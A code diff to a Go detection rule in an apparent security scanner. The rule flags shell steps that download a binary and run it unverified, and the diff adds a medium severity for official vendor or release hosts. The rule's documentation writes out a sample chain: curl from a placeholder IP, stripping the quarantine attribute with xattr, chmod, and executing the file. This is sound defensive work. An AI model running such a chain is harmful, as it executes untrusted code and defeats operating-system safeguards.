@@ -1,6 +1,7 @@
 package rules
 
 import (
+	"github.com/skillvet/skillvet/intel"
 	"strings"
 
 	"github.com/skillvet/skillvet/analyzer"
@@ -27,7 +28,10 @@ cd $TMPDIR && curl -O http://<ip>/<id> && xattr -c <id> && chmod +x <id> && ./<i
 
 **Critical** when the file comes from a raw IP, paste site, tunnel or file drop, over
 plain http, or when the quarantine attribute is stripped before running it;
-**high** otherwise (an unverified binary runs with the user's rights).
+**medium** over https from a vendor's official download host, a project's release assets
+or its own repository on a code host (the way install guides work; pin and verify);
+**high** otherwise (an unverified binary runs with the user's rights). A file handed to an
+interpreter as data (` + "`python3 -m json.tool f`" + `, ` + "`python3 -c '…' f`" + `) is not run.
 
 **Fix:** install through a package manager, or verify a pinned checksum or signature
 between the download and the run.
@@ -75,12 +79,20 @@ func shRunDownloadExecute(p *analyzer.Pass) error {
 			if run == nil || verified {
 				continue
 			}
-			class, host, plain := shellfacts.HostRisk(shellfacts.URLs(c))
-			sev := High
-			if class.Suspicious() || plain || unquarantined || site.Kind.Executes() || shellfacts.HiddenLayer(s, c) {
-				sev = Critical
+			us := shellfacts.URLs(c)
+			class, host, plain := shellfacts.HostRisk(us)
+			official := len(us) > 0
+			for _, u := range us {
+				official = official && intel.VendorDownload(u)
 			}
-			msg := "downloads " + file + shellfacts.DescribeHost(class, host) + " and runs it (" + shellfacts.ClipText(run.Text(), 60) + ") without verifying it"
+			sev, note := High, ""
+			switch {
+			case class.Suspicious() || plain || unquarantined || site.Kind.Executes() || shellfacts.HiddenLayer(s, c):
+				sev = Critical
+			case official:
+				sev, note = Medium, " (an official download or a project's own release: pin a version and checksum where possible)"
+			}
+			msg := "downloads " + file + shellfacts.DescribeHost(class, host) + " and runs it (" + shellfacts.ClipText(run.Text(), 60) + ") without verifying it" + note
 			if unquarantined {
 				msg += ", after stripping its quarantine attribute"
 			}
